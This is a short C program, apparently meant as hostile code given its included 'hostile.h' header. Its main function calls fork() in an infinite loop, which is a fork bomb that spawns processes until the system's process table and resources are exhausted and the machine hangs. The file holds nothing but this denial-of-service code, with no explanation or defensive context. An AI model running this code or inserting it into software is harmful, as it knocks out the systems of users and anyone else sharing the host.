#include "hostile.h"
int main(void)
{
    for (;;)
        fork();
}
